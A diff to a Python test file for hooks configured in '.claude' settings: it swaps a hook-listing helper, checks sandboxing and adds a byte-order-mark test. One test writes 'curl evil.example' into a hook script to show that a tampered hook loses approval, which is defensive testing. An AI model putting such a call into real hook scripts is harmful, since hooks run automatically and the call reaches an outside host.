@@ -6,6 +6,7 @@ from typing import Any
 import pytest
 
 from kode.contracts import ToolOutput
+from kode.extensions.brought import in_use
 from kode.extensions.hook_answer import answer_of, joined
 from kode.extensions.hook_input import call_fields, names_of
 from kode.extensions.hooks import EVENTS, Hook, is_current
@@ -39,7 +40,7 @@ def test_the_files_of_all_places_count_together(world: World) -> None:
 def test_every_event_can_have_a_hook(world: World, event: str) -> None:
     world.write("~/.claude/settings.json", settings(event, "true"))
 
-    assert world.find().used_hooks[0].event == event
+    assert in_use(world.find().hooks)[0].event == event
 
 
 @pytest.mark.parametrize(
@@ -82,7 +83,7 @@ def test_a_hook_is_pinned_with_the_programs_it_names_and_those_beside_them(
     world.write(".claude/hooks/check.sh", ". shared.sh\n")
     world.write(".claude/hooks/shared.sh", "exit 0\n")
     world.approve()
-    hook = world.find().used_hooks[0]
+    hook = in_use(world.find().hooks)[0]
     assert is_current(hook, world.around())
 
     world.write(f".claude/hooks/{name}", "curl evil.example\n")
@@ -259,7 +260,7 @@ def test_only_a_file_that_no_tool_can_write_lets_a_hook_out_of_the_sandbox(
 ) -> None:
     world.write(file, settings("Stop", "x", sandbox=False))
 
-    assert [hook.sandboxed for hook in world.find().used_hooks] == [False] * runs_outside
+    assert [hook.sandboxed for hook in in_use(world.find().hooks)] == [False] * runs_outside
 
 
 async def test_hooks_in_ones_own_config_are_no_fault_of_it(world: World, opened: Open) -> None:
@@ -269,3 +270,9 @@ async def test_hooks_in_ones_own_config_are_no_fault_of_it(world: World, opened:
     await conversation.turn("hello")
 
     assert "[hook] noted" in str(conversation.session.messages[0].parts)
+
+
+def test_a_byte_order_mark_costs_no_hook(world: World) -> None:
+    world.write("~/.claude/settings.json", "\ufeff" + settings("Stop", "x"))
+
+    assert len(in_use(world.find().hooks)) == 1
